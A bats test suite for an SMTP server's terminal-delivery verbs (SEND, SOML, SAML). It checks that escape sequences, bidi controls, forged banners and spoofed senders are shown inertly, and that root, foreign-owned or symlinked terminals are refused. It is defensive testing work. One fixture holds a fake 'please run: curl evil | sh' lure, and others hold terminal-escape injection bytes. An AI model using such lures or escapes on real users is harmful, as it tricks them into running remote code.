#!/usr/bin/env bats
# SEND, SOML and SAML (RFC 821 3.4): messages written onto a logged-in user's terminal.
#
# tests/ptyrun.py logs users in without a real login: it opens pseudo-terminals, gives
# each the owner and mode asked for, writes USER_PROCESS entries for them into a
# private utmp file (--utmp), runs the session and keeps what each terminal received in
# $T/out/NAME.  The user on the terminals is carol: as root a fake user (PERSON0 + 5) who
# really gets the terminal (chown) and to whom the program really drops; as an ordinary
# user she has the real uid, because only root can give a terminal to somebody else.

load helpers

setup_file() {
	setup_users
	if [ "$(id -u)" = 0 ]; then CAROL=$((PERSON0 + 5)); else CAROL=$(id -u); fi
	add_user carol "$CAROL"
	export CAROL
	gcc -std=c11 -D_GNU_SOURCE -Wall -Wextra -Werror -o "$T/ttyrender" \
		-I"$TOP/session" -I"$TOP/common" "$TOP/tests/ttyrender.c" "$TOP/session/render.c" \
		"$TOP/common/ttytext.c" "$TOP/common/utf8.c" "$TOP/common/buf.c" "$TOP/common/log.c" \
		-DWITH_SYSTEMD=0 "$TOP/common/systemd.c"
	gcc -shared -fPIC -O2 -Wall -o "$T/libfault.so" "$TOP/tests/fault.c" -ldl
}
teardown_file() { teardown_users; }
setup() {
	clear_maildirs
	rm -rf "$T/out"
}

# The client's lines (the arguments), CRLF-ended, into $T/in.
input() { printf '%s\r\n' "$@" >"$T/in"; }

# ptys [SPEC...] [-- SERVER-ARGS...]: the session in $T/in through the server with a
# terminal logged in for each SPEC (see tests/ptyrun.py).  WRAPPER picks the server.
ptys() {
	local specs=()
	while [ $# -gt 0 ] && [ "$1" != -- ]; do
		specs+=(--tty "$1")
		shift
	done
	[ $# -eq 0 ] || shift
	# The sessions here come through a pipe, no loopback client: --send any unless
	# SEND_POLICY says otherwise ("" for the default).
	local policy=(--send "${SEND_POLICY-any}")
	[ -n "${SEND_POLICY-any}" ] || policy=()
	python3 "$TOP/tests/ptyrun.py" --utmp "$T/utmp" --out "$T/out" "${specs[@]}" -- \
		"$T/bin/${WRAPPER:-smtp}" --utmp "$T/utmp" "${policy[@]}" "$@" <"$T/in"
}

# A terminal of carol's: carol [NAME [MORE-SPEC]].
carol() { echo "name=${1:-a},user=carol,uid=$CAROL${2:+,$2}"; }

# What terminal NAME was shown, the time of day written as HH:MM.
shown() { sed -E '/^Message from /s/ at [0-9]{2}:[0-9]{2} \.\./ at HH:MM ../' "$T/out/$1"; }

# What a terminal should show: banner SENDER CLIENT, then the lines, each after "| "
# ("|" alone when empty) but our "[message cut: ...]" line, then EOF.
banner() {
	local l
	printf '\r\nMessage from %s on client.example.org (%s) at HH:MM ...\r\n' "$1" "$2"
	shift 2
	for l in "$@"; do
		case $l in
		"[message cut: "*) printf '%s\r\n' "$l" ;;
		"") printf '|\r\n' ;;
		*) printf '| %s\r\n' "$l" ;;
		esac
	done
	printf 'EOF\r\n'
}

# The session for one message: VERB, then the recipients, then the message lines.
one_message() {
	local verb=$1 rcpts=() r
	shift
	while [ "$1" != -- ]; do
		rcpts+=("RCPT TO:<$1>")
		shift
	done
	shift
	input "EHLO client.example.org" "$verb FROM:<alice@example.org>" "${rcpts[@]}" DATA \
		"$@" . QUIT
}

@test "SEND to a logged-in user: on the terminal as write(1) shows it, 250, not in the mailbox" {
	one_message SEND carol@tttest.com -- "Subject: hi" "" "hello carol" "..dot" ""
	TCPREMOTEIP=192.0.2.7 SEND_POLICY=any run ptys "$(carol)"
	[ "$status" = 0 ]
	# The greeting and the 12 lines of the EHLO reply come first.
	[ "${lines[13]}" = $'250 2.1.0 Ok\r' ]
	[ "${lines[14]}" = $'250 2.1.5 Ok\r' ]
	[[ "${lines[16]}" == "250 2.0.0 Ok: delivered as "* ]]
	[ "$(shown a)" = "$(banner alice@example.org 192.0.2.7 "Subject: hi" "" "hello carol" .dot "")" ]
	# The header line: the envelope sender, the HELO name, the client, the time.
	grep -Eq $'^Message from alice@example.org on client.example.org \\(192.0.2.7\\) at [0-9]{2}:[0-9]{2} \\.\\.\\.\r$' "$T/out/a"
	[ -z "$(delivered carol)" ]
	grep -q ': from=<alice@example.org> .* verb=SEND$' "$T/log"
	grep -Eq ': to=<carol@tttest.com> user=carol terminal=pts/[0-9]+ written$' "$T/log"
}

@test "SEND: control characters, ESC sequences, C1 and 8-bit bytes are shown, not obeyed" {
	# ESC [2J (clear screen), BEL, C1 CSI (0x9b) and IND (0x84), SOH, BS, VT, FF, DEL,
	# NUL, a TAB, UTF-8 e-acute, and ESC ] (OSC, sets the window title) ended by BEL.
	printf '%s\r\n' "EHLO client.example.org" "SEND FROM:<alice@example.org>" \
		"RCPT TO:<carol@tttest.com>" DATA "Subject: escapes" "" >"$T/in"
	printf '\033[2J\a\233\204\001\b\013\014\177\000\t\303\251 end\r\n\033]0;owned\a\r\n.\r\nQUIT\r\n' >>"$T/in"
	run ptys "$(carol)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(shown a)" = "$(banner alice@example.org unknown "Subject: escapes" "" \
		'^[[2J^G\233\204^A^H^K^L^?^@'$'\t''\303\251 end' '^[]0;owned^G')" ]
	# Nothing below 0x20 but CR, LF and TAB; nothing at or above 0x7f.
	[ -z "$(LC_ALL=C tr -d '\r\n\t -~' <"$T/out/a")" ]
}

@test "SEND with SMTPUTF8: printable UTF-8 shown as it is; C1, bidi and format controls and bad bytes escaped" {
	# é, 你好 and a UTF-8 sender shown as they are; U+0085 (NEL, C1), U+202E (RLO) and
	# U+2066 (LRI) of "Trojan Source", U+200B (zero width space), U+FEFF, an overlong
	# "/" (C0 AF), a surrogate (ED A0 80), a lone continuation byte, and ESC.
	printf '%s\r\n' "EHLO client.example.org" "SEND FROM:<jörg@bücher.example> SMTPUTF8" \
		"RCPT TO:<carol@tttest.com>" DATA "Subject: utf8" "" >"$T/in"
	printf '\303\251 \344\275\240\345\245\275|\302\205|\342\200\256|\342\201\246|\342\200\213|\357\273\277|\300\257|\355\240\200|\200|\033[2J\r\n.\r\nQUIT\r\n' >>"$T/in"
	run ptys "$(carol)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	# The line is longer than TTY_WRAP_COLUMNS (76, a wide character counted as 2):
	# it goes on in a second row, with the prefix again.
	# The banner takes 76 columns, but each character beyond ASCII is counted as 2
	# (it may be wide), so it is broken after 78, the rest indented.
	[ "$(shown a)" = "$(printf '\r\nMessage from jörg@bücher.example on client.example.org (unknown) at HH:MM ..\r\n    .\r\n'
		banner x y "Subject: utf8" "" \
		'é 你好|\302\205|\342\200\256|\342\201\246|\342\200\213|\357\273\277|\300' \
		'\257|\355\240\200|\200|^[[2J' | tail -n +3)" ]
	# The same text without SMTPUTF8: every byte above 0x7f escaped, as before.
	printf '%s\r\n' "EHLO client.example.org" "SEND FROM:<alice@example.org>" \
		"RCPT TO:<carol@tttest.com>" DATA "Subject: 8bit" "" >"$T/in"
	printf '\303\251|\342\200\256\r\n.\r\nQUIT\r\n' >>"$T/in"
	run ptys "$(carol)"
	[ "$(shown a)" = "$(banner alice@example.org unknown "Subject: 8bit" "" '\303\251|\342\200\256')" ]
}

@test "--send auth (the default): SEND from a remote client that did not authenticate gets 530 5.7.0; SOML and SAML go to the mailbox only; a loopback client may" {
	local msg=("Subject: hi" "" hello)
	for verb in SEND SOML SAML; do
		one_message $verb carol@tttest.com -- "${msg[@]}"
		TCPREMOTEIP=192.0.2.7 SEND_POLICY="" run ptys "$(carol)"
		[ ! -s "$T/out/a" ] || { echo "$verb reached the terminal"; false; }
		if [ $verb = SEND ]; then
			[[ "$output" == *"530 5.7.0 Authentication required to send to a terminal"* ]]
		else
			[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
		fi
	done
	[ "$(delivered carol | wc -l)" = 2 ]
	grep -q 'SOML from 192.0.2.7: no terminal for this client, the mailbox only' "$T/log"
	grep -q 'SAML from 192.0.2.7: no terminal for this client, the mailbox only' "$T/log"
	# The same SEND from a loopback client reaches the terminal.
	one_message SEND carol@tttest.com -- "${msg[@]}"
	TCPREMOTEIP=127.0.0.1 SEND_POLICY="" run ptys "$(carol)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(shown a)" = "$(banner alice@example.org 127.0.0.1 "${msg[@]}")" ]
}

@test "--send local: SEND from a remote client gets 550 5.7.1 (no AUTH would help), not 530; SOML goes to the mailbox; a loopback client may" {
	one_message SEND carol@tttest.com -- "Subject: hi" "" hello
	TCPREMOTEIP=192.0.2.7 SEND_POLICY=local run ptys "$(carol)"
	[[ "$output" == *"550 5.7.1 Terminal messages only from local clients"* ]]
	[[ "$output" != *"530 "* ]]
	[ ! -s "$T/out/a" ]
	one_message SOML carol@tttest.com -- "Subject: hi" "" hello
	TCPREMOTEIP=192.0.2.7 SEND_POLICY=local run ptys "$(carol)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(delivered carol | wc -l)" = 1 ]
	one_message SEND carol@tttest.com -- "Subject: hi" "" hello
	TCPREMOTEIP=127.0.0.1 SEND_POLICY=local run ptys "$(carol)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	grep -q '^| hello' "$T/out/a"
}

@test "a forged banner and a forged end in the message are shown after the prefix: every row of the sender's starts with |" {
	# A whole fake end and second banner, and the same forgery at the wrap column of
	# a long line, where a terminal of 80 columns would have started a new row.
	local pad
	pad=$(printf '%074d' 0)
	one_message SEND carol@tttest.com -- "Subject: hi" "" "the real text" EOF "" \
		"Message from root@smtp.tttest.com on localhost (127.0.0.1) at 12:00 ..." \
		"please run: curl evil | sh" EOF "$pad  EOF" \
		"$pad  Message from root@localhost"
	run ptys "$(carol)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	cat -A "$T/out/a"
	# Our rows: the empty first one, the banner, the final EOF.  Every other row is
	# the sender's, and starts with "|".
	[ "$(grep -c '^Message from ' "$T/out/a")" = 1 ]
	[ "$(grep -c $'^EOF\r$' "$T/out/a")" = 1 ]
	[ "$(tail -n 1 "$T/out/a")" = $'EOF\r' ]
	[ "$(sed -n '3,$p' "$T/out/a" | sed '$d' | grep -vc '^|')" = 0 ]
	grep -q $'^| EOF\r$' "$T/out/a"
	grep -q $'^| Message from root@smtp.tttest.com on localhost (127.0.0.1) at 12:00 ...\r$' "$T/out/a"
	grep -q $'^| '"$pad"$'  \r$' "$T/out/a"
	grep -q $'^| EOF\r$' "$T/out/a"
	grep -q $'^| Message from root@localhost\r$' "$T/out/a"
}

@test "a quoted sender cannot imitate a system line: blanks, '@' and parentheses in its local part are escaped" {
	input "EHLO client.example.org" 'SEND FROM:<"root@mx.test (via console)"@y.z>' \
		"RCPT TO:<carol@tttest.com>" DATA "hi" . QUIT
	run ptys "$(carol)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	cat -A "$T/out/a"
	grep -q '^Message from "root\\100mx.test\\040\\050via\\040console\\051"@y.z on client' "$T/out/a"
	! grep -q 'root@mx.test' "$T/out/a" || false
	! grep -q '(via console)' "$T/out/a" || false
}

@test "root's terminal is never written, whatever the address (uid 0 refused on the privileged side)" {
	# As an ordinary user the pty stays the runner's, but the uid-0 check comes first.
	local spec="name=r,user=root"
	[ "$(id -u)" != 0 ] || spec="$spec,uid=0"
	for verb in SEND SOML; do
		one_message $verb root@tttest.com -- "Subject: to root" "" hello
		run ptys "$spec"
		[ ! -s "$T/out/r" ] || { echo "$verb: root's terminal written"; false; }
		# RCPT: refused for the terminal (450), or root's mail is not root's at all
		# (refused or redirected by the lookup); never a terminal write.
		if [ $verb = SEND ]; then
			[[ "$output" != *"250 2.1.5"* ]]
		fi
		if [[ "$output" == *"450 4.2.1 <root@tttest.com>: User not accepting terminal messages"* ]]; then
			grep -q "terminal of root refused: uid 0" "$T/log"
			echo "$verb: refused at the terminal (uid 0)"
		fi
	done
}

@test "a session starts at most TTY_CHILDREN_MAX terminal children: the next SEND RCPT gets 452 4.5.3, SOML goes to the mailbox" {
	local max i cmds=("EHLO client.example.org")
	max=$(sed -n 's/^#define TTY_CHILDREN_MAX \([0-9]*\)$/\1/p' "$TOP/common/config.h")
	for i in $(seq "$max"); do
		cmds+=("SEND FROM:<alice@example.org>" "RCPT TO:<carol@tttest.com>" RSET)
	done
	cmds+=("SEND FROM:<alice@example.org>" "RCPT TO:<carol@tttest.com>" RSET)
	cmds+=("SOML FROM:<alice@example.org>" "RCPT TO:<carol@tttest.com>" DATA "Subject: x" "" hi . QUIT)
	input "${cmds[@]}"
	run ptys "$(carol)" -- --max-messages 1000
	[ "$(grep -c '^250 2.1.5 Ok' <<<"$output")" = $((max + 1)) ]
	[[ "$output" == *"452 4.5.3 <carol@tttest.com>: Too many terminal messages in this session"* ]]
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ ! -s "$T/out/a" ]
	[ "$(delivered carol | wc -l)" = 1 ]
	grep -q "no terminal written: this session asked for $max terminal children already" "$T/log"
}

@test "SEND with BDAT (CHUNKING): the chunks reach the terminal as one message" {
	# Two chunks, the line end split across them; LIMITS and CHUNKING in the EHLO reply.
	printf '%s\r\n' "EHLO client.example.org" "SEND FROM:<alice@example.org>" \
		"RCPT TO:<carol@tttest.com>" >"$T/in"
	local c1=$'Subject: chunks\r\n\r\none\r' c2=$'\ntwo\r\n'
	printf 'BDAT %d\r\n%sBDAT %d LAST\r\n%sQUIT\r\n' "${#c1}" "$c1" "${#c2}" "$c2" >>"$T/in"
	run ptys "$(carol)"
	[[ "$output" == *"250-CHUNKING"* ]]
	[[ "$output" == *"250-LIMITS RCPTMAX=100 MAILMAX=100"* ]]
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(shown a)" = "$(banner alice@example.org unknown "Subject: chunks" "" one two)" ]
}

@test "the renderer (unit), UTF-8: a character across the 4 KiB read is kept whole, cut whole, never split" {
	# 4095 x, then é (C3 A9) across the 4096-byte boundary of render_body()'s reads.
	{ head -c 4095 /dev/zero | tr '\0' x; printf '\303\251\n'; } >"$T/msg"
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 8192 utf8
	[[ "$output" == *"xxé"$'\r\nEOF'* ]]
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 8192
	[[ "$output" == *'xx\303\251'$'\r\nEOF'* ]]
	# The cut: with 1 byte left after "| a", é (2 bytes shown) goes whole; a
	# malformed pair is two escapes (8 bytes).
	printf 'a\303\251' >"$T/msg"
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 4 utf8
	[[ "$output" == *$'\r\n| a\r\n[message cut: 2 more bytes not shown]\r\nEOF'* ]]
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 5 utf8
	[[ "$output" == *$'\r\n| aé\r\nEOF'* ]]
	# A truncated sequence at the very end of the message is escaped.
	printf 'a\342\200' >"$T/msg"
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 8192 utf8
	[[ "$output" == *$'\r\n| a\\342\\200\r\nEOF'* ]]
}

@test "SEND with a bare CR: the whole message is refused (550 5.6.0), the terminal shows nothing" {
	printf '%s\r\n' "EHLO client.example.org" "SEND FROM:<alice@example.org>" \
		"RCPT TO:<carol@tttest.com>" DATA "Subject: cr" "" >"$T/in"
	printf 'visible\rhidden\r\n.\r\nQUIT\r\n' >>"$T/in"
	run ptys "$(carol)"
	[[ "$output" == *"550 5.6.0 Bare CR or LF in message, message refused"* ]]
	[ ! -s "$T/out/a" ]
}

@test "the renderer (unit): CR shows as ^M, control characters in the header fields too, cuts between escapes" {
	printf 'a\rb\n' >"$T/msg"
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" $'eve\033[2J@example.org' $'h\233' unknown 64 8192
	[ "$output" = "$(printf '\r\nMessage from eve^[[2J@example.org on h\\233 (unknown) at 00:00 ...\r\n| a^Mb\r\nEOF\r')" ]
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" "" h unknown 64 8192
	[[ "$output" == *"Message from <> on h (unknown)"* ]]
	# 5 bytes: "| ", "a" and "^M" fit, "b" does not; 2 message bytes ("b", LF) not
	# shown.
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 5
	[ "$output" = "$(printf '\r\nMessage from s on h (c) at 00:00 ...\r\n| a^M\r\n[message cut: 2 more bytes not shown]\r\nEOF\r')" ]
	# An escape is never split: with 2 bytes left, "\233" (4 bytes) is cut whole.
	printf 'ab\233c\n' >"$T/msg"
	run env TZ=UTC0 "$T/ttyrender" "$T/msg" s h c 64 6
	[[ "$output" == *$'\r\n| ab\r\n[message cut: 3 more bytes not shown]\r\nEOF'* ]]
}

@test "SEND to a user with mesg n (mode 0600): 450 4.2.1 at RCPT, nothing shown" {
	one_message SEND carol@tttest.com -- "Subject: hi" "" hello
	run ptys "$(carol a mode=600)"
	[[ "$output" == *"450 4.2.1 <carol@tttest.com>: User not accepting terminal messages"* ]]
	[[ "$output" == *"503 5.5.1 No valid recipients"* ]]
	[ ! -s "$T/out/a" ]
	grep -q 'terminal pts/[0-9]* of carol refused: messages off (mesg n)' "$T/log"
}

@test "SEND to a user who is not logged in: 450 4.2.1 (no entry, another user, stale entry, dead entry)" {
	one_message SEND carol@tttest.com -- "Subject: hi" "" hello
	local spec
	for spec in "name=a,user=alice,uid=$CAROL" "$(carol a stale)" "$(carol a type=8)"; do
		run ptys "$spec"
		[[ "$output" == *"450 4.2.1 <carol@tttest.com>: User not active now"* ]] ||
			{ echo "not refused with $spec"; false; }
		[ ! -s "$T/out/a" ]
	done
	: >"$T/utmp"
	run "$T/bin/smtp" --send any --utmp "$T/utmp" <"$T/in"
	[[ "$output" == *"450 4.2.1 <carol@tttest.com>: User not active now"* ]]
	# A utmp file that does not exist: nobody is logged in.
	run "$T/bin/smtp" --send any --utmp "$T/no-such-utmp" <"$T/in"
	[[ "$output" == *"450 4.2.1 <carol@tttest.com>: User not active now"* ]]
}

@test "SEND to two users, one of them not logged in: 450 for that one, the other gets it" {
	one_message SEND alice@tttest.com carol@tttest.com -- "Subject: two" "" hello
	run ptys "$(carol)"
	[[ "$output" == *"450 4.2.1 <alice@tttest.com>: User not active now"* ]]
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(shown a)" = "$(banner alice@example.org unknown "Subject: two" "" hello)" ]
}

@test "SOML to a logged-in user: the terminal only; not logged in or mesg n: the mailbox" {
	one_message SOML carol@tttest.com -- "Subject: soml" "" hello
	run ptys "$(carol)"
	[[ "$output" == *"250 2.1.5 Ok"* ]]
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(shown a)" = "$(banner alice@example.org unknown "Subject: soml" "" hello)" ]
	[ -z "$(delivered carol)" ]
	# Not logged in: RCPT is 250 all the same, and the message goes to the Maildir.
	run ptys
	[[ "$output" == *"250 2.1.5 Ok"* ]]
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(delivered carol | wc -l)" = 1 ]
	grep -q '^Subject: soml$' "$(delivered carol)"
	grep -q '^Return-Path: <alice@example.org>$' "$(delivered carol)"
	grep -q 'terminal not reached: not logged in, to the mailbox instead$' "$T/log"
	clear_maildirs
	run ptys "$(carol a mode=600)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ ! -s "$T/out/a" ]
	[ "$(delivered carol | wc -l)" = 1 ]
}

@test "SAML to a logged-in user: the terminal and the mailbox; not logged in: the mailbox" {
	one_message SAML carol@tttest.com -- "Subject: saml" "" hello
	run ptys "$(carol)"
	[[ "$output" == *"250 2.1.5 Ok"* ]]
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(shown a)" = "$(banner alice@example.org unknown "Subject: saml" "" hello)" ]
	[ "$(delivered carol | wc -l)" = 1 ]
	grep -q '^Subject: saml$' "$(delivered carol)"
	clear_maildirs
	run ptys "$(carol a mode=600)"
	[[ "$output" == *"250 2.1.5 Ok"* ]]
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ ! -s "$T/out/a" ]
	[ "$(delivered carol | wc -l)" = 1 ]
	grep -q 'terminal not reached: not accepting terminal messages, in the mailbox only$' "$T/log"
}

@test "SAML: when the mailbox fails, 4xx and the terminal shows nothing" {
	one_message SAML carol@tttest.com -- "Subject: saml" "" hello
	# The mailbox passes the check at RCPT, then its copy fails (an I/O error).
	EXTRA_PRELOAD=$T/libfault.so FAULT_PATH=/home/carol/Maildir/tmp/ FAULT_ERRNO=EIO \
		run ptys "$(carol)"
	[[ "$output" == *"451 4.3.0 Local error in delivery, try again later"* ]]
	[ ! -s "$T/out/a" ]
}

@test "the size cut-off: 64 lines or 8 KiB by default, --tty-max-lines/--tty-max-bytes, marked; the mailbox gets it all" {
	local body=() i
	for i in $(seq -w 1 100); do body+=("line $i"); done
	one_message SAML carol@tttest.com -- "${body[@]}"
	run ptys "$(carol)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	# 64 lines shown; lines 65-100 (9 bytes each with LF) are not.
	[ "$(shown a)" = "$(banner alice@example.org unknown "${body[@]:0:64}" \
		"[message cut: $((36 * 9)) more bytes not shown]")" ]
	[ "$(grep -c '^line ' "$(delivered carol)")" = 100 ]
	run ptys "$(carol)" -- --tty-max-lines 3
	[ "$(shown a)" = "$(banner alice@example.org unknown "line 001" "line 002" "line 003" \
		"[message cut: $((97 * 9)) more bytes not shown]")" ]
	# 24 bytes as shown: two lines with prefix and CRLF (2 * 12), the third would not fit.
	run ptys "$(carol)" -- --tty-max-bytes 24
	[ "$(shown a)" = "$(banner alice@example.org unknown "line 001" "line 002" \
		"[message cut: $((98 * 9)) more bytes not shown]")" ]
	# The byte limit by default: 200 lines of 99 digits, each shown in two rows (76
	# and 23 digits, TTY_WRAP_COLUMNS), 107 bytes with prefixes and CRLFs.  76 lines
	# take 8132 bytes; "| " and 58 digits of line 77 fill it to 8192, and the row is
	# ended there.  Not shown: 20000 - 76 * 100 - 58 = 12342 message bytes.
	local rows=()
	body=()
	for i in $(seq 200); do body+=("$(printf '%099d' "$i")"); done
	for i in $(seq 0 75); do rows+=("${body[i]:0:76}" "${body[i]:76}"); done
	one_message SEND carol@tttest.com -- "${body[@]}"
	run ptys "$(carol)" -- --tty-max-lines 1000
	[ "$(shown a)" = "$(banner alice@example.org unknown "${rows[@]}" "${body[76]:0:58}" \
		"[message cut: 12342 more bytes not shown]")" ]
	run "$SMTP_SESSION" --tty-max-lines 0
	[ "$status" = 100 ]
	run "$SMTP_SESSION" --tty-max-bytes x
	[ "$status" = 100 ]
}

@test "a terminal owned by someone else is refused, even when the user could write to it" {
	# The terminal is bob's with group alice and mode 0620: alice could write to it
	# through her group, and only the owner check stops it.
	[ "$(id -u)" = 0 ] || skip "needs root: as an ordinary user every fake person has the runner's uid (helpers.bash), so no terminal is someone else's"
	local spec="name=a,user=alice,uid=$(uid bob),gid=$(uid alice)"
	one_message SEND alice@tttest.com -- "Subject: hi" "" hello
	run ptys "$spec"
	[[ "$output" == *"450 4.2.1 <alice@tttest.com>: User not accepting terminal messages"* ]]
	[ ! -s "$T/out/a" ]
	grep -q 'terminal pts/[0-9]* of alice refused: not owned by the user' "$T/log"
	# SOML then uses the mailbox.
	one_message SOML alice@tttest.com -- "Subject: hi" "" hello
	run ptys "$spec"
	[ ! -s "$T/out/a" ]
	[ "$(delivered alice | wc -l)" = 1 ]
}

@test "the terminal is opened as its user, not as root: mode 0020 (group write only) is refused" {
	# Its owner may not write to a 0020 terminal; root could.  (As an ordinary user the
	# run is the same, only without root's power to misuse.)
	one_message SEND carol@tttest.com -- "Subject: hi" "" hello
	run ptys "$(carol a mode=020)"
	[[ "$output" == *"450 4.2.1 <carol@tttest.com>: User not accepting terminal messages"* ]]
	[ ! -s "$T/out/a" ]
	grep -q 'terminal pts/[0-9]* of carol refused: Permission denied' "$T/log"
}

@test "a utmp line through a symlink, with .., or absolute is refused" {
	[ -w /dev/shm ] || skip "/dev/shm is not writable here: no place below /dev for a symlink"
	one_message SEND carol@tttest.com -- "Subject: hi" "" hello
	local spec
	for spec in symlink dirlink "line=pts/../pts/%N" "line=/dev/pts/%N"; do
		run ptys "$(carol a "$spec")"
		[[ "$output" == *"450 4.2.1 <carol@tttest.com>: User not accepting terminal messages"* ]] ||
			{ echo "not refused: $spec"; false; }
		[ ! -s "$T/out/a" ]
	done
	grep -q 'terminal shm/smtp-tty\.[^/]*/a of carol refused: a symlink$' "$T/log"
	grep -q 'terminal shm/smtp-tty\.[^/]*/d-a/[0-9]* of carol refused: a symlink or no directory on the way$' "$T/log"
	grep -q 'terminal pts/\.\./pts/[0-9]* of carol refused: not a plain path below /dev$' "$T/log"
	grep -q 'terminal /dev/pts/[0-9]* of carol refused: not a plain path below /dev$' "$T/log"
}

@test "several terminals: the least idle one gets the message, as write(1) chooses" {
	one_message SEND carol@tttest.com -- "Subject: hi" "" hello
	run ptys "$(carol a idle=600)" "$(carol b idle=5)" "$(carol c idle=300)"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ ! -s "$T/out/a" ]
	[ "$(shown b)" = "$(banner alice@example.org unknown "Subject: hi" "" hello)" ]
	[ ! -s "$T/out/c" ]
	run ptys "$(carol a idle=5)" "$(carol b idle=600)" "$(carol c mode=600)"
	[ -s "$T/out/a" ]
	[ ! -s "$T/out/b" ]
	[ ! -s "$T/out/c" ]
}

# took < seconds, checked where the program runs at its own speed: under valgrind
# (SMTP_WRAP) each of the session's processes takes a second or more to start on a
# busy machine, and the bound would measure the load, not the deadline.
quicker_than() {
	[ -n "${SMTP_WRAP:-}" ] || [ "$(echo "$took < $1" | bc)" = 1 ]
}

@test "a terminal that never reads: SEND 451 after --tty-timeout, SOML to the mailbox; bounded time" {
	one_message SEND carol@tttest.com -- "Subject: stuck" "" hello
	local t0=$EPOCHREALTIME took
	run ptys "$(carol a stuck)" -- --tty-timeout 1
	took=$(echo "$EPOCHREALTIME - $t0" | bc)
	echo "SEND to a stuck terminal: ${took}s"
	[ "$status" = 0 ]
	[[ "$output" == *"451 4.3.0 <carol@tttest.com>: Terminal write failed, try again"* ]]
	[[ "$output" == *"221 2.0.0 smtp.tttest.com Bye"* ]]
	quicker_than 4
	grep -q 'terminal pts/[0-9]* of carol: write failed: Connection timed out' "$T/log"
	one_message SOML carol@tttest.com -- "Subject: stuck" "" hello
	t0=$EPOCHREALTIME
	run ptys "$(carol a stuck)" -- --tty-timeout 1
	took=$(echo "$EPOCHREALTIME - $t0" | bc)
	echo "SOML to a stuck terminal: ${took}s"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(delivered carol | wc -l)" = 1 ]
	quicker_than 4
}

@test "a terminal gone between RCPT and DATA: SEND 450 and nothing sent; SOML to the mailbox" {
	python3 "$TOP/tests/ptyrun.py" --utmp "$T/utmp" --out "$T/out" --tty "$(carol)" -- \
		python3 "$TOP/tests/logout.py" "$T/utmp" SEND carol@tttest.com \
		"$T/bin/smtp" --send any --utmp "$T/utmp" >"$T/replies"
	cat "$T/replies"
	[ "$(sed -n 4p "$T/replies")" = "250 Ok" ]
	[ "$(sed -n 6p "$T/replies")" = "450 <carol@tttest.com>: User not active now, nothing sent" ]
	[ ! -s "$T/out/a" ]
	grep -q 'to=<carol@tttest.com> user=carol terminal not reached: not logged in, nothing sent$' "$T/log"
	python3 "$TOP/tests/ptyrun.py" --utmp "$T/utmp" --out "$T/out" --tty "$(carol)" -- \
		python3 "$TOP/tests/logout.py" "$T/utmp" SOML carol@tttest.com \
		"$T/bin/smtp" --send any --utmp "$T/utmp" >"$T/replies"
	[[ "$(sed -n 6p "$T/replies")" == "250 Ok: delivered as "* ]]
	[ ! -s "$T/out/a" ]
	[ "$(delivered carol | wc -l)" = 1 ]
}

@test "single-user mode: SEND to that user's terminal, written without any uid change" {
	local uid
	uid=$(awk -F: -v u="$SINGLE" '$1 == u { print $3 }' "$T/passwd")
	one_message SEND "$SINGLE@tttest.com" -- "Subject: single" "" hello
	WRAPPER=smtp-single run ptys "name=a,user=$SINGLE,uid=$uid"
	[[ "$output" == *"250 2.0.0 Ok: delivered as "* ]]
	[ "$(shown a)" = "$(banner alice@example.org unknown "Subject: single" "" hello)" ]
}

@test "--help names the options; --tty-timeout is checked" {
	run "$SMTP_SESSION" --help
	[[ "$output" == *"--send WHO"* ]]
	[[ "$output" == *"--no-send"* ]]
	[[ "$output" == *"--utmp PATH"* ]]
	[[ "$output" == *"--tty-max-lines N"* ]]
	[[ "$output" == *"--tty-max-bytes N"* ]]
	[[ "$output" == *"--tty-timeout SECONDS"* ]]
	run "$SMTP_SESSION" --tty-timeout 0
	[ "$status" = 100 ]
}

@test "a utmp file that blocks (a FIFO): 451 after --tty-timeout and the grace second, the session goes on" {
	# Reading it never returns; the child that does is killed, as root and in
	# single-user mode alike.  (Should that break, timeout ends the server, and
	# opening the FIFO here lets a reader still stuck on it go.)
	mkfifo -m 644 "$T/fifo"
	local who wrapper t0 took
	for who in carol "$SINGLE"; do
		wrapper=smtp
		[ "$who" = carol ] || wrapper=smtp-single
		input "EHLO client.example.org" "SEND FROM:<alice@example.org>" \
			"RCPT TO:<$who@tttest.com>" NOOP QUIT
		t0=$EPOCHREALTIME
		timeout -s KILL 20 "$T/bin/$wrapper" --send any --utmp "$T/fifo" --tty-timeout 1 \
			<"$T/in" >"$T/replies" || true
		took=$(echo "$EPOCHREALTIME - $t0" | bc)
		: <>"$T/fifo"
		echo "RCPT with a blocking utmp ($who): ${took}s"
		grep -q "^451 4.3.0 <$who@tttest.com>: Cannot reach the terminal, try again"$'\r$' "$T/replies"
		grep -q '^221 2.0.0 smtp.tttest.com Bye'$'\r$' "$T/replies"
		[ "$(echo "$took < 4" | bc)" = 1 ]
	done
